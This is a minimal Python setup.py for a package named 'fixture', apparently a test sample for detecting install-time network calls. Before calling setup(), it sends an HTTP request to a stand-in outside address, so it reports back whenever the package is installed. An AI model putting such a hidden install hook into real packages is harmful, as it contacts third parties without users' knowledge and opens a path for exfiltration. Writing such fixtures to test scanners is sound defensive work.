import urllib.request
from setuptools import setup
urllib.request.urlopen("http://203.0.113.9/installed")
setup(name="fixture", version="1.0")
